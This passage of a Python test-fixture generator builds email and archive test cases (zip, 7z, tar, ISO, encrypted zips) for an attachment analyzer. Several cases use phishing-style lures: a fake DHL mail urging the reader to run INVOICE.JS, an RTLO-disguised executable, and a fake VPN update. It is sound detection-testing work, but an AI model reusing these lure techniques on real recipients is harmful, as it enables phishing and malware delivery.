    mbr[0:3] = b"\xfa\x33\xc0"
    struct.pack_into("<I", mbr, 440, 0x5A3C1E0F)
    struct.pack_into("<B3sB3sII", mbr, 446, 0x80, b"\x00\x02\x00", 0x06,
                     b"\x03\x3f\x00", 1, sectors - 1)
    mbr[510:512] = b"\x55\xaa"
    return bytes(mbr) + bytes(512 * (sectors - 1))


def fat12_floppy_head():
    """The boot sector of a FAT12 image (what `mkfs.fat -C x.img 64`
    writes), followed by an empty FAT and root directory."""
    bs = bytearray(512)
    bs[0:3] = b"\xeb\x3c\x90"
    bs[3:11] = b"mkfs.fat"
    struct.pack_into("<HBHBHHBHHHII", bs, 11, 512, 4, 1, 2, 512, 128, 0xF8,
                     1, 32, 2, 0, 0)
    struct.pack_into("<BBBI11s8s", bs, 36, 0x80, 0, 0x29, 0x1A2B3C4D,
                     b"SHIPPING   ", b"FAT12   ")
    bs[510:512] = b"\x55\xaa"
    fat = b"\xf8\xff\xff".ljust(512, b"\0")
    return bytes(bs) + fat + bytes(512 * 14)


def both16(v):
    return struct.pack("<H", v) + struct.pack(">H", v)


def both32(v):
    return struct.pack("<I", v) + struct.pack(">I", v)


def iso_dir_record(ident, extent, size, is_dir):
    rec_len = 33 + len(ident) + (1 - len(ident) % 2)
    rec = bytes([rec_len, 0]) + both32(extent) + both32(size)
    rec += bytes([124, 6, 3, 8, 15, 0, 0])      # 2024-06-03 08:15:00 UTC
    rec += bytes([2 if is_dir else 0, 0, 0]) + both16(1)
    rec += bytes([len(ident)]) + ident
    if len(ident) % 2 == 0:
        rec += b"\0"
    return rec


def iso_image(name, data):
    """An ISO 9660 level-1 image (ECMA-119) with one file in the root:
    32 KiB system area, primary volume descriptor in sector 16, the
    terminator, both path tables, the root directory and the file.
    (Used where no mastering tool is needed: genisoimage/xorriso are not
    installed here.)"""
    sector = 2048
    n_data = (len(data) + sector - 1) // sector
    total = max(21 + n_data, 32)
    root = iso_dir_record(b"\0", 20, sector, True)
    pvd = bytes([1]) + b"CD001" + bytes([1, 0])
    pvd += b"LINUX".ljust(32) + b"DELIVERY".ljust(32) + bytes(8)
    pvd += both32(total) + bytes(32) + both16(1) + both16(1)
    pvd += both16(sector) + both32(10)
    pvd += struct.pack("<I", 18) + struct.pack("<I", 0)
    pvd += struct.pack(">I", 19) + struct.pack(">I", 0)
    pvd += root + b" " * (128 * 4 + 37 * 3)
    pvd += (b"2024060308150000" + bytes([0])) * 2 + (b"0" * 16 + b"\0") * 2
    pvd += bytes([1])
    pvd = pvd.ljust(sector, b"\0")
    term = (bytes([255]) + b"CD001" + bytes([1])).ljust(sector, b"\0")
    lpt = bytes([1, 0]) + struct.pack("<IH", 20, 1) + b"\0\0"
    mpt = bytes([1, 0]) + struct.pack(">IH", 20, 1) + b"\0\0"
    rootdir = (iso_dir_record(b"\0", 20, sector, True) +
               iso_dir_record(b"\1", 20, sector, True) +
               iso_dir_record(name.encode() + b";1", 21, len(data), False))
    img = bytes(16 * sector) + pvd + term
    img += lpt.ljust(sector, b"\0") + mpt.ljust(sector, b"\0")
    img += rootdir.ljust(sector, b"\0")
    img += data.ljust(n_data * sector, b"\0")
    return img.ljust(total * sector, b"\0")


# ------------------------------------------------------------------ cases

SUPPLIER = "Accounts Receivable <ar@northwind-supplies.example>"
CUSTOMER = "Jordan Reyes <jordan.reyes@example.org>"


def invoice_mail(subject, body, date="Mon, 03 Jun 2024 10:42:17 +0100",
                 **kw):
    return Mail(SUPPLIER, CUSTOMER, subject, date, body,
                "northwind-supplies.example", **kw)


INVOICE_BODY = """Dear Jordan,

Please find attached invoice {num} for your order of 28 May 2024.

Amount due: GBP {amount}
Payment terms: 30 days net

If you have any questions about this invoice, reply to this email or
call us on +44 117 496 0123.

Kind regards,

Sarah Whitfield
Accounts Receivable
Northwind Supplies Ltd.
"""


def case_zip():
    inv = invoice_text("INV-2024-0611", "1,204.80")
    pdf_bytes = pdf_clean()
    files = [("INV-2024-0611.pdf", pdf_bytes), ("INV-2024-0611.txt", inv)]
    z = make_zip(files)
    m = invoice_mail("Invoice INV-2024-0611",
                     INVOICE_BODY.format(num="INV-2024-0611",
                                         amount="1,204.80"))
    m.attach(z, "application/zip", "INV-2024-0611.zip")
    att = top("INV-2024-0611.zip", "application/zip", z, "zip",
              is_archive=True, mime="application/zip",
              archive_format={"$regex": "^ZIP"}, encrypted=False,
              password_used=None,
              files=[inner("INV-2024-0611.pdf", pdf_bytes, "pdf",
                           mime="application/pdf"),
                     inner("INV-2024-0611.txt", inv, "txt",
                           mime="text/plain")])
    write_case("zip", m, [att],
               "A zip made by Info-ZIP zip holding a clean PDF invoice and its "
               "text export: both entries are listed in archive order with "
               "hashlib's digests of the bytes put in; no flags on a clean "
               "PDF or text file.", defects=NO_DEFECTS)


def case_7z():
    if not have("7z"):
        return skip("7z", "7z (p7zip-full) not installed")
    csv = csv_text()
    note = ("Delivery schedule week 23 attached as CSV.\r\n"
            "Loading bay 3, 06:00-14:00.\r\n").encode()
    files = [("delivery_schedule_w23.csv", csv), ("readme.txt", note)]
    s = make_7z(files)
    m = Mail("Logistics Desk <logistics@fastfreight.example>", CUSTOMER,
             "Delivery schedule week 23", "Tue, 04 Jun 2024 07:05:51 +0200",
             "Hello Jordan,\n\nattached is the delivery schedule for week 23 "
             "as a 7-Zip archive\n(the CSV is too large for your mail "
             "server otherwise).\n\nBest regards\nMarta Kowalski\nFastFreight "
             "Logistics\n", "fastfreight.example", client="Thunderbird 115.11")
    m.attach(s, "application/x-7z-compressed", "schedule_w23.7z")
    att = top("schedule_w23.7z", "application/x-7z-compressed", s, "7z",
              is_archive=True, mime="application/x-7z-compressed",
              archive_format="7-Zip", encrypted=False, password_used=None,
              files=[inner(n, d, n.rsplit(".", 1)[1]) for n, d in files])
    write_case("7z", m, [att],
               "A 7-Zip archive (7z a, LZMA2) with two files: libarchive names "
               "the format 7-Zip; entries in the order 7z stored them "
               "(command-line order); digests from hashlib.",
               defects=NO_DEFECTS)


def case_7z_unicode_names():
    if not have("7z"):
        return skip("7z_unicode_names", "7z not installed")
    pe = pe_file()
    letter = ("Sehr geehrte Damen und Herren,\r\nanbei die Rechnung für "
              "März 2024.\r\n").encode()
    rtlo = "Rechnung_2024_\u202efdp.exe"
    files = {"Rechnung_März_2024.txt": letter, rtlo: pe}
    s = make_7z(list(files.items()))
    order = list_7z(s)
    assert sorted(order) == sorted(files), order
    m = Mail("Buchhaltung <buchhaltung@nordwind-handel.example>", CUSTOMER,
             "Rechnung März 2024", "Tue, 02 Apr 2024 08:55:10 +0200",
             "Guten Tag,\n\nanbei die Rechnung für März 2024 und das "
             "Begleitschreiben.\n\nMit freundlichen Grüßen\nBuchhaltung\n",
             "nordwind-handel.example")
    m.attach(s, "application/x-7z-compressed", "Rechnung_Maerz_2024.7z")
    pins = {
        "Rechnung_März_2024.txt": inner("Rechnung_März_2024.txt", letter,
                                        "txt", mime="text/plain"),
        rtlo: inner(rtlo, pe, "exe", mime=PE_MIME,
                    flags_present=["executable", "rtl_override"],
                    yara=[yara_rule("PE_File", "executables.yar",
                                    ["executable", "pe"])]),
    }
    att = top("Rechnung_Maerz_2024.7z", "application/x-7z-compressed", s,
              "7z", is_archive=True, archive_format="7-Zip", encrypted=False,
              password_used=None, files=[pins[n] for n in order])
    write_case("7z_unicode_names", m, [att],
               "7z stores entry names in UTF-16: \"Rechnung_März_2024.txt\" "
               "and \"Rechnung_2024_<U+202E>fdp.exe\" (shown as "
               "Rechnung_2024_exe.pdf) must come out as UTF-8 names, so the "
               "PE inside is flagged rtl_override as well as executable. "
               "Entries in the order 7z l lists them.", defects=NO_DEFECTS)


def case_tar():
    if not have("tar"):
        return skip("tar", "tar not installed")
    csv = csv_text(25)
    inv = invoice_text("INV-2024-0612", "388.15")
    files = [("exports/invoice_0612.txt", inv), ("exports/orders.csv", csv)]
    t = make_tar(files)
    m = invoice_mail("Monthly export May 2024",
                     "Hi Jordan,\n\nthe monthly export you asked for is "
                     "attached (tar, as produced by our ERP).\n\n"
                     "Regards,\nSarah\n")
    m.attach(t, "application/x-tar", "export_2024-05.tar")
    att = top("export_2024-05.tar", "application/x-tar", t, "tar",
              is_archive=True, mime="application/x-tar",
              archive_format={"$regex": "tar"}, encrypted=False,
              password_used=None,
              files=[inner(n, d, n.rsplit(".", 1)[1]) for n, d in files])
    write_case("tar", m, [att],
               "A GNU tar archive with two files in a folder: only regular "
               "files are reported (the folder entries of a tar are not "
               "files), named by their path in the archive.",
               defects=NO_DEFECTS)


def case_tar_gz():
    if not (have("tar") and have("gzip")):
        return skip("tar_gz", "tar or gzip not installed")
    log = b"".join(b"2024-06-02T23:%02d:%02dZ sync ok batch=%d\n" % (
        i // 60, i % 60, i) for i in range(120))
    inv = invoice_text("INV-2024-0613", "77.00")
    files = [("backup/invoice_0613.txt", inv), ("backup/sync.log", log)]
    t = make_tar(files, compress="gzip")
    m = invoice_mail("Backup of the invoice folder",
                     "Hi Jordan,\n\nas discussed, the nightly backup of the "
                     "invoice folder (tar.gz).\n\nSarah\n")
    m.attach(t, "application/gzip", "invoices_backup.tar.gz")
    att = top("invoices_backup.tar.gz", "application/gzip", t, "gz",
              is_archive=True, mime="application/gzip",
              archive_format={"$regex": "tar"}, encrypted=False,
              password_used=None,
              files=[inner(n, d, n.rsplit(".", 1)[1]) for n, d in files])
    write_case("tar_gz", m, [att],
               "A gzip-compressed tar: libarchive unwraps the gzip filter and "
               "reads the tar inside, so the tar's files are listed directly "
               "(not a single inner .tar); the format is the tar's.",
               defects=NO_DEFECTS)


def bare_case(case, tool, ext, ctype, mime):
    if not have(tool):
        return skip(case, tool + " not installed")
    csv = csv_text(60)
    c = compress(tool, csv)
    name = "orders_2024-05.csv." + ext
    m = Mail("ERP Reports <noreply@erp.northwind-supplies.example>",
             CUSTOMER, "Scheduled report: orders May 2024",
             "Sat, 01 Jun 2024 02:00:04 +0000",
             "This is an automated message.\n\nYour scheduled report "
             "\"orders\" for May 2024 is attached (%s compressed).\n\n"
             "Do not reply to this message.\n" % tool,
             "erp.northwind-supplies.example", client="ERP Mailer 4.2")
    m.attach(c, ctype, name)
    att = top(name, ctype, c, ext, is_archive=True, mime=mime,
              encrypted=False, password_used=None,
              files=[inner("orders_2024-05.csv", csv, "csv")])
    write_case(case, m, [att],
               "A single file compressed with %s: one inner file named after "
               "the attachment without its last extension "
               "(docs/attachments.md, Archives); its digests are those of "
               "the uncompressed CSV." % tool, defects=NO_DEFECTS)


def case_gzip_iso():
    if not have("gzip"):
        return skip("gzip_iso", "gzip not installed")
    js = SCRIPTS["js"][2]
    iso = iso_image("INVOICE.JS", js)
    assert iso[:512] == bytes(512)
    gz = compress("gzip", iso)
    m = Mail("DHL Express <noreply@dhl-delivery.example>", CUSTOMER,
             "Shipment 7741 0620 3391: customs invoice",
             "Thu, 06 Jun 2024 14:31:09 +0200",
             "Dear customer,\n\nthe customs invoice for your shipment is "
             "attached. Open the image and\nrun the invoice viewer.\n\n"
             "DHL Express Customer Service\n", "dhl-delivery.example",
             client="PHPMailer 6.9.1", src_ip="203.0.113.45")
    m.attach(gz, "application/gzip", "Customs_Invoice.iso.gz")
    script = inner("INVOICE.JS", js, "js", flags_present=["script"])
    att = top("Customs_Invoice.iso.gz", "application/gzip", gz, "gz",
              is_archive=True, mime="application/gzip",
              archive_format="ISO9660", encrypted=False, password_used=None,
              files=[script])
    write_case("gzip_iso", m, [att],
               "An ISO 9660 image (built by hand to ECMA-119; its first 32 KiB "
               "are the zero system area) compressed with gzip, holding "
               "INVOICE.JS. As with .tar.gz, libarchive unwraps the gzip "
               "filter and reads the ISO inside, so the script is listed "
               "directly (format ISO9660) and flagged; the leading zero "
               "block must not be taken for the end of an empty tar.",
               defects=NO_DEFECTS)

    m = Mail("DHL Express <noreply@dhl-delivery.example>", CUSTOMER,
             "Shipment 7741 0620 3391: customs invoice",
             "Thu, 06 Jun 2024 14:31:09 +0200",
             "Dear customer,\n\nthe customs invoice for your shipment is "
             "attached. Open the image and\nrun the invoice viewer.\n\n"
             "DHL Express Customer Service\n", "dhl-delivery.example",
             client="PHPMailer 6.9.1", src_ip="203.0.113.45")
    m.attach(iso, "application/octet-stream", "Customs_Invoice.iso")
    att = top("Customs_Invoice.iso", "application/octet-stream", iso, "iso",
              is_archive=True, mime="application/x-iso9660-image",
              archive_format="ISO9660", encrypted=False, password_used=None,
              flags_present=["disk_image"],
              reasons={"disk_image": "ISO 9660 disk image"},
              files=[script])
    write_case("disk_image_iso", m, [att],
               "The same hand-built ISO 9660 image attached as it is (no "
               "mastering tool is installed here, so it is built from "
               "ECMA-119): disk_image by its CD001 signature in sector 16, "
               "and an archive whose one file, INVOICE.JS (the ;1 version "
               "suffix dropped), is flagged script.", defects=NO_DEFECTS)


def case_nested():
    if not have("7z"):
        return skip("nested", "7z not installed")
    note = invoice_text("INV-2024-0620", "9,870.00", "Contoso Pharmaceuticals")
    inner_zip = make_zip([("Delivery_Note_0620.txt", note)])
    middle_zip = make_zip([("documents.zip", inner_zip)])
    outer = make_7z([("shipment_0620.zip", middle_zip)])
    m = Mail("DHL Express <noreply@dhl-delivery.example>", CUSTOMER,
             "Your shipment 7741 0620 3391 - delivery documents",
             "Thu, 06 Jun 2024 14:31:09 +0200",
             "Dear customer,\n\nyour parcel 7741 0620 3391 could not be "
             "delivered. The delivery note\nand customs documents are "
             "attached. Please print them and present them at\nyour local "
             "service point.\n\nDHL Express Customer Service\n",
             "dhl-delivery.example", client="PHPMailer 6.9.1",
             src_ip="203.0.113.45")
    m.attach(outer, "application/x-7z-compressed", "Shipment_Documents.7z")
    level3 = inner("Delivery_Note_0620.txt", note, "txt", mime="text/plain")
    level2 = inner("documents.zip", inner_zip, "zip", is_archive=True,
                   mime="application/zip", encrypted=False,
                   password_used=None, archive_format={"$regex": "^ZIP"},
                   files=[level3])
    level1 = inner("shipment_0620.zip", middle_zip, "zip", is_archive=True,
                   mime="application/zip", encrypted=False,
                   password_used=None, archive_format={"$regex": "^ZIP"},
                   files=[level2])
    att = top("Shipment_Documents.7z", "application/x-7z-compressed", outer,
              "7z", is_archive=True, mime="application/x-7z-compressed",
              archive_format="7-Zip", encrypted=False, password_used=None,
              files=[level1])
    write_case("nested", m, [att],
               "Zip in zip in 7z: three archive levels, each listed under the "
               "files of its parent, the text file at depth 3; the default "
               "max_depth (5) opens them all, so no limit defect.",
               defects=NO_DEFECTS)
    return outer, middle_zip, inner_zip, note


def case_config_max_depth(nested):
    if nested is None:
        return skip("config_max_depth", "needs the nested case (7z)")
    outer, middle_zip, inner_zip, note = nested
    case = "config_max_depth"
    d = os.path.join(CASES, PREFIX + case)
    os.makedirs(d, exist_ok=True)
    with open(os.path.join(d, "mailscope.yml"), "w") as f:
        f.write("# Open the attachment but no archive inside it.\n"
                "attachments:\n  max_depth: 1\n")
    m = Mail("DHL Express <noreply@dhl-delivery.example>", CUSTOMER,
             "Your shipment 7741 0620 3391 - delivery documents",
             "Thu, 06 Jun 2024 14:31:09 +0200",
             "Dear customer,\n\nyour parcel 7741 0620 3391 could not be "
             "delivered. The delivery note\nand customs documents are "
             "attached.\n\nDHL Express Customer Service\n",
             "dhl-delivery.example", client="PHPMailer 6.9.1",
             src_ip="203.0.113.45")
    m.attach(outer, "application/x-7z-compressed", "Shipment_Documents.7z")
    level1 = inner("shipment_0620.zip", middle_zip, "zip", is_archive=True,
                   mime="application/zip", files=[])
    att = top("Shipment_Documents.7z", "application/x-7z-compressed", outer,
              "7z", is_archive=True, archive_format="7-Zip", files=[level1])
    write_case(case, m, [att],
               "The nested 7z of analyze_att_nested with the configuration "
               "attachments.max_depth: 1 (mailscope.yml in this folder, given "
               "with -c; the path is relative to the repository root, where "
               "the runner is started). The attachment (depth 0) is opened; "
               "the zip inside it (depth 1) is listed with its digests but "
               "not opened, and a limit_archive_depth defect is recorded.",
               args="-c tests/cases/%s%s/mailscope.yml" % (PREFIX, case),
               defects=defect_pin("limit_archive_depth"),
               extra={"defects": {"$contains": [
                   {"type": "limit_archive_depth",
                    "path": "2/shipment_0620.zip"}]}})


def config_case(case, yaml, mail, attachments, comment, defects=None,
                extra=None):
    """A case run with -c FILE: the configuration is written into the
    case folder and named relative to the repository root, where the
    runner is started (tests/golden.py passes args as they are)."""
    d = os.path.join(CASES, PREFIX + case)
    os.makedirs(d, exist_ok=True)
    with open(os.path.join(d, "mailscope.yml"), "w") as f:
        f.write(yaml)
    write_case(case, mail, attachments, comment,
               args="-c tests/cases/%s%s/mailscope.yml" % (PREFIX, case),
               defects=defects, extra=extra)


def export_mail(subject):
    return Mail("ERP Reports <noreply@erp.northwind-supplies.example>",
                CUSTOMER, subject, "Sat, 01 Jun 2024 02:00:04 +0000",
                "This is an automated message.\n\nYour scheduled export "
                "is attached.\n\nDo not reply to this message.\n",
                "erp.northwind-supplies.example", client="ERP Mailer 4.2")


def case_config_limits():
    if not have("tar"):
        return skip("config_max_*", "tar not installed")
    parts = [("export/part%d.csv" % i, csv_text(90 + i)) for i in range(1, 6)]
    sizes = [len(d) for _, d in parts]
    assert all(3000 < n < 4096 for n in sizes), sizes
    t = make_tar(parts)

    # max_total_bytes 6000: part1 (about 3.3 KB) fits, part2 would pass
    # the budget, so it is cut and the walk stops.
    m = export_mail("Scheduled export: parts 1-5")
    m.attach(t, "application/x-tar", "export_parts.tar")
    att = top("export_parts.tar", "application/x-tar", t, "tar",
              is_archive=True, files=[inner(*parts[0], "csv")])
    config_case("config_max_total_bytes",
                "# A small extraction budget per mail.\nattachments:\n"
                "  max_total_bytes: 6000\n", m, [att],
                "attachments.max_total_bytes: 6000 (mailscope.yml here, -c). "
                "The tar holds five CSV files of %s bytes: the first fits "
                "the budget and is reported; reading the second passes it, so "
                "a limit_archive_bytes defect is recorded at the attachment "
                "(path 2) and extraction stops." % sizes,
                extra={"defects": [{"type": "limit_archive_bytes",
                                    "path": "2"}]})

    # max_entries 3: three headers are read, the fourth stops the walk.
    m = export_mail("Scheduled export: parts 1-5")
    m.attach(t, "application/x-tar", "export_parts.tar")
    att = top("export_parts.tar", "application/x-tar", t, "tar",
              is_archive=True,
              files=[inner(n, d, "csv") for n, d in parts[:3]])
    config_case("config_max_entries",
                "attachments:\n  max_entries: 3\n", m, [att],
                "attachments.max_entries: 3. A tar with five files: three "
                "headers are read and reported, the fourth is one too many: "
                "limit_archive_entries at the attachment's path.",
                extra={"defects": [{"type": "limit_archive_entries",
                                    "path": "2"}]})

    # max_files 3: the attachment is one report, two entries make three.
    m = export_mail("Scheduled export: parts 1-5")
    m.attach(t, "application/x-tar", "export_parts.tar")
    att = top("export_parts.tar", "application/x-tar", t, "tar",
              is_archive=True,
              files=[inner(n, d, "csv") for n, d in parts[:2]])
    config_case("config_max_files",
                "attachments:\n  max_files: 3\n", m, [att],
                "attachments.max_files: 3 counts every report of the mail: "
                "the tar itself and its first two files. The third file is "
                "not reported and one limit_attachment_files defect is "
                "recorded (at the archive's path), however many files "
                "follow.",
                extra={"defects": [{"type": "limit_attachment_files",
                                    "path": "2"}]})


def case_config_scan_bytes():
    pe = pe_file()
    m = Mail("IT Support <it-support@example.org>", CUSTOMER,
             "Mandatory VPN client update",
             "Wed, 05 Jun 2024 08:03:12 +0000",
             "Hello,\n\nplease install the attached update.\n\nIT Support\n",
             "example.org", src_ip="192.0.2.77")
    m.attach(pe, "application/x-msdownload", "VPNClientUpdate.exe")
    att = top("VPNClientUpdate.exe", "application/x-msdownload", pe, "exe",
              mime=PE_MIME, flags_present=["executable"], yara=[])
    att["ssdeep"] = None
    config_case("config_max_scan_bytes",
                "attachments:\n  max_scan_bytes: 512\n", m, [att],
                "attachments.max_scan_bytes: 512 and a %d-byte PE: the "
                "cryptographic digests, types and header checks are still "
                "made, ssdeep is null and YARA does not run (no PE_File), "
                "with limit_attachment_scan_bytes defects at path 2."
                % len(pe),
                extra={"defects": {"$contains": [
                    {"type": "limit_attachment_scan_bytes", "path": "2"}]}})


def case_config_payloads():
    inv = invoice_text("INV-2024-0611", "1,204.80")
    secret = invoice_text("PAYSLIP 2024-05", "3,412.55", "Jordan Reyes")
    d = stage([("INV-2024-0611.txt", inv), ("Payslip.txt", secret)])
    out = os.path.join(d, "out.zip")
    run(["zip", "-q", "-X", "-D", out, "INV-2024-0611.txt"], cwd=d)
    run(["zip", "-q", "-X", "-D", "-P", "not-in-mail", out, "Payslip.txt"],
        cwd=d)
    z = read_out(out)
    m = invoice_mail("Invoice INV-2024-0611",
                     INVOICE_BODY.format(num="INV-2024-0611",
                                         amount="1,204.80"))
    m.attach(z, "application/zip", "INV-2024-0611.zip")

    def b64(data):
        return base64.b64encode(data).decode()

    att = top("INV-2024-0611.zip", "application/zip", z, "zip",
              is_archive=True, encrypted=True, password_used=None,
              flags_present=["encrypted_archive"],
              payload=b64(z),
              files=[inner("INV-2024-0611.txt", inv, "txt", payload=b64(inv)),
                     {"filename": "Payslip.txt", "encrypted": True,
                      "sha256": None, "payload": None}])
    config_case("config_payloads",
                "attachments:\n  payloads: true\n", m, [att],
                "attachments.payloads: true adds each file's bytes in base64: "
                "the attachment's and the plain entry's payloads are "
                "Python's base64 of the bytes put in; the encrypted entry no "
                "password opened has a null payload (docs/attachments.md).",
                defects=NO_DEFECTS)


def case_zip_password():
    slip = invoice_text("PAYSLIP 2024-05 / EMP 10432", "3,412.55",
                        "Jordan Reyes")
    z = make_zip([("Payslip_May_2024.txt", slip)], password="4471")
    body = ("Dear Jordan,\n\nyour payslip for May 2024 is attached. For data "
            "protection reasons the\nfile is encrypted.\n\nPassword: 4471\n\n"
            "If you have questions about your salary statement, please "
            "contact\nthe HR service desk (ext. 2200).\n\nKind regards\n"
            "Human Resources\nNorthwind Supplies Ltd.\n")
    m = Mail("HR Service Desk <hr@northwind-supplies.example>", CUSTOMER,
             "Your payslip May 2024", "Fri, 31 May 2024 16:02:44 +0100", body,
             "northwind-supplies.example")
    m.attach(z, "application/zip", "Payslip_May_2024.zip")
    att = top("Payslip_May_2024.zip", "application/zip", z, "zip",
              is_archive=True, mime="application/zip",
              archive_format={"$regex": "^ZIP"}, encrypted=True,
              password_used="4471",
              flags_present=["encrypted_archive"],
              files=[inner("Payslip_May_2024.txt", slip, "txt",
                           mime="text/plain", encrypted=True)])
    att["flags"] = [{"name": "encrypted_archive",
                     "reason": {"$substring": "opened with a password"}}]
    write_case("zip_password", m, [att],
               "A zip encrypted with traditional PKWARE encryption (zip -P "
               "4471); the body says \"Password: 4471\", the candidate opens "
               "it (password_used), so the inner payslip is decrypted and its "
               "digests are those of the plain text put in.",
               defects=NO_DEFECTS)


def case_zip_aes_password():
    if not have("7z"):
        return skip("zip_aes_password", "7z not installed")
    slip = invoice_text("RECHNUNG 2024-0611", "1.980,00", "Beispiel GmbH")
    z = make_7z([("Rechnung_2024-0611.txt", slip)], password="Nord#2024",
                fmt="zip", aes=True)
    body = ("Guten Tag,\n\nanbei erhalten Sie die Rechnung 2024-0611 als "
            "verschlüsseltes ZIP-Archiv.\nDas Passwort lautet: "
            "\"Nord#2024\"\n\nMit freundlichen Grüßen\nBuchhaltung\n")
    m = Mail("Buchhaltung <buchhaltung@nordwind-handel.example>", CUSTOMER,
             "Rechnung 2024-0611", "Tue, 11 Jun 2024 09:14:02 +0200", body,
             "nordwind-handel.example")
    m.attach(z, "application/zip", "Rechnung_2024-0611.zip")
    att = top("Rechnung_2024-0611.zip", "application/zip", z, "zip",
              is_archive=True, mime="application/zip", encrypted=True,
              password_used="Nord#2024", flags_present=["encrypted_archive"],
              files=[inner("Rechnung_2024-0611.txt", slip, "txt",
                           mime="text/plain", encrypted=True)])
    write_case("zip_aes_password", m, [att],
               "A zip with WinZip AES-256 encryption (7z -tzip -mem=AES256); "
               "the German body gives the password in quotes after "
               "\"Passwort lautet:\", which opens it; the inner file's "
               "digests are those of the plain text.", defects=NO_DEFECTS)


def case_zip_password_html():
    doc = invoice_text("INV-2024-0655", "640.00")
    z = make_zip([("INV-2024-0655.txt", doc)], password="Rx8-4471")
    m = invoice_mail("Invoice INV-2024-0655",
                     "Dear Jordan,\n\nplease find attached invoice "
                     "INV-2024-0655.\n\nKind regards,\nSarah Whitfield\n")
    # The plain-text part omits the password, as some mailers' text
    # renderings of a styled table do; the HTML part has it in markup.
    m.add_html('<html><body><p>Dear Jordan,</p><p>please find attached '
               'invoice INV-2024-0655.</p><table><tr><td>Password:</td><td>'
               '<b>Rx8-4471</b></td></tr></table><p>Kind regards,<br>Sarah '
               'Whitfield</p></body></html>\n')
    m.attach(z, "application/zip", "INV-2024-0655.zip")
    att = top("INV-2024-0655.zip", "application/zip", z, "zip",
              path="2", is_archive=True, mime="application/zip",
              encrypted=True, password_used="Rx8-4471",
              flags_present=["encrypted_archive"],
              files=[inner("INV-2024-0655.txt", doc, "txt", encrypted=True)])
    write_case("zip_password_html", m, [att],
               "The password is only in the HTML alternative, inside table "
               "cells and <b> (\"Password:</td><td><b>Rx8-4471</b>\"): tags "
               "are skipped like blanks, the candidate opens the ZipCrypto "
               "zip. The attachment is part 2 (part 1 is the "
               "multipart/alternative, its children 1.1 and 1.2).", defects=NO_DEFECTS)


def case_zip_second_candidate():
    doc = invoice_text("INV-2024-0656", "915.30")
    z = make_zip([("INV-2024-0656.txt", doc)], password="Q7w-0656")
    body = ("Dear Jordan,\n\nfor security reasons the invoice is in an "
            "encrypted archive; the password\nis in the last line of this "
            "message.\n\nKind regards,\nSarah Whitfield\n\n"
            "Password: Q7w-0656\n")
    m = invoice_mail("Invoice INV-2024-0656", body)
    m.attach(z, "application/zip", "INV-2024-0656.zip")
    att = top("INV-2024-0656.zip", "application/zip", z, "zip",
              is_archive=True, mime="application/zip", encrypted=True,
              password_used="Q7w-0656", flags_present=["encrypted_archive"],
              files=[inner("INV-2024-0656.txt", doc, "txt", encrypted=True)])
    write_case("zip_second_candidate", m, [att],
               "Two candidates: \"the password is in the last line\" gives "
               "the bare word \"in\" (after the filler \"is\"), which fails; "
               "\"Password: Q7w-0656\" opens the zip. password_used is the "
               "one that worked.", defects=NO_DEFECTS)


def case_zip_mixed_encryption():
    cover = ("Cover letter\r\n\r\nThe statement is in the protected "
             "file.\r\n").encode()
    doc = invoice_text("STATEMENT 2024-Q2", "22,310.44")
    d = stage([("Cover_Letter.txt", cover), ("Statement_Q2.txt", doc)])
    out = os.path.join(d, "out.zip")
    run(["zip", "-q", "-X", "-D", out, "Cover_Letter.txt"], cwd=d)
    run(["zip", "-q", "-X", "-D", "-P", "4471", out, "Statement_Q2.txt"],
        cwd=d)
    z = read_out(out)
    m = Mail("Client Services <statements@examplebank.example>", CUSTOMER,
             "Your quarterly statement", "Mon, 01 Jul 2024 06:30:00 +0200",
             "Dear Jordan,\n\nyour statement for Q2 2024 is attached.\n"
             "Password: 4471\n\nClient Services\n", "examplebank.example")
    m.attach(z, "application/zip", "Statement_Q2_2024.zip")
    att = top("Statement_Q2_2024.zip", "application/zip", z, "zip",
              is_archive=True, mime="application/zip", encrypted=True,
              password_used="4471", flags_present=["encrypted_archive"],
              files=[inner("Cover_Letter.txt", cover, "txt"),
                     inner("Statement_Q2.txt", doc, "txt", encrypted=True)])
    write_case("zip_mixed_encryption", m, [att],
               "A zip whose first entry is plain and second is encrypted "
               "(zip, then zip -P 4471 adding to it). The plain entry is "
               "read, the encrypted one is opened with the password from "
               "the body; each is reported once, in archive order, with "
               "its own digests.", defects=NO_DEFECTS)


def case_7z_encrypted():
    if not have("7z"):
        return skip("7z_encrypted", "7z not installed")
    doc = invoice_text("INV-2024-0631", "4,100.00")
    s = make_7z([("INV-2024-0631.txt", doc)], password="4471")
    m = invoice_mail("Invoice INV-2024-0631",
                     INVOICE_BODY.format(num="INV-2024-0631",
                                         amount="4,100.00") +
                     "\nPassword: 4471\n")
    m.attach(s, "application/x-7z-compressed", "INV-2024-0631.7z")
    locked = {"filename": "INV-2024-0631.txt", "encrypted": True,
              "size": 0, "sha256": None, "mime_type": None,
              "flags": [{"name": "encrypted_archive"}]}
    att = top("INV-2024-0631.7z", "application/x-7z-compressed", s, "7z",
              is_archive=True, mime="application/x-7z-compressed",
              archive_format="7-Zip", encrypted=True, password_used=None,
              files=[locked])
    att["flags"] = [{"name": "encrypted_archive",
                     "reason": {"$substring": "none of 1 candidate"}}]
    write_case("7z_encrypted", m, [att],
               "A 7z with encrypted data but a clear directory (7z -p "
               "without -mhe): libarchive cannot decrypt 7z "
               "(docs/attachments.md, Known limits), so the entry is listed "
               "by name, locked (no digests), and the archive flagged even "
               "though the body's password is right.", defects=NO_DEFECTS)


def case_zip_password_localized():
    """Passwords announced in Russian and Turkish, with the keyword
    capitalized at the start of the line, as people write it."""
    for case, sender, subject, date, body, name, pw in (
            ("zip_password_russian",
             "Бухгалтерия <buh@primer-torg.example>",
             "Счёт 2024-0611", "Tue, 11 Jun 2024 10:20:30 +0300",
             "Добрый день!\n\nВо вложении счёт 2024-0611 в защищённом "
             "архиве.\nПароль: 4471\n\nС уважением,\nБухгалтерия\n",
             "Schet_2024-0611.zip", "4471"),
            ("zip_password_turkish",
             "Muhasebe <muhasebe@ornek-ticaret.example>",
             "Fatura 2024-0611", "Tue, 11 Jun 2024 10:20:30 +0300",
             "Merhaba,\n\nfatura 2024-0611 ekte şifreli arşiv olarak "
             "gönderilmiştir.\nŞifre: 4471\n\nSaygılarımızla,\nMuhasebe\n",
             "Fatura_2024-0611.zip", "4471")):
        doc = invoice_text("INV-2024-0611", "1,204.80")
        inner_name = name[:-4] + ".txt"
        z = make_zip([(inner_name, doc)], password=pw)
        host = sender.split("@")[1].rstrip(">")
        m = Mail(sender, CUSTOMER, subject, date, body, host,
                 client="Microsoft Outlook 16.0")
        m.attach(z, "application/zip", name)
